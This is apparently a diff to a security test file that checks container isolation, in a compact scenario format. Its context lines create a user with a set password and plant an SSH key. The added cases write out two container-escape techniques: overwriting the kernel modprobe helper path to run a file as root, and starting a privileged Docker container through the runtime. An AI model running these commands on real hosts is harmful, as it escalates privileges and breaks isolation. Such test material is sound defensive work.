@@ -90,3 +90,13 @@ useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; written
 /usr/sbin/sshd -f /srv/sshd
 mkdir -p /home/ann/.ssh; cat /srv/key.pub >> /home/ann/.ssh/authorized_keys; chown -R 1000:1000 /home/ann/.ssh
 ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -i /srv/key ann@203.0.113.9 true; written
+## Helper of the kernel named by a container, then run
+#in shop:1
+#guest no namespace keeps what the kernel starts apart
+#setup named /var/tmp/x; printf '\377\377\377\377' > /var/tmp/y; chmod 755 /var/tmp/y
+was=$(cat /proc/sys/kernel/modprobe); echo /var/tmp/x > /proc/sys/kernel/modprobe; /var/tmp/y; sleep 2; echo "$was" > /proc/sys/kernel/modprobe; looked
+## Runtime's socket used, then a privileged container
+#in shop:1
+#guest a container has no more rights than who starts it, and root has not all of them everywhere
+#setup image; (echo 0 > /sys/fs/cgroup/cgroup.procs; engine /docker)
+docker run --privileged --network none debian:12 true; kill "$(cat /run/docker.pid)"
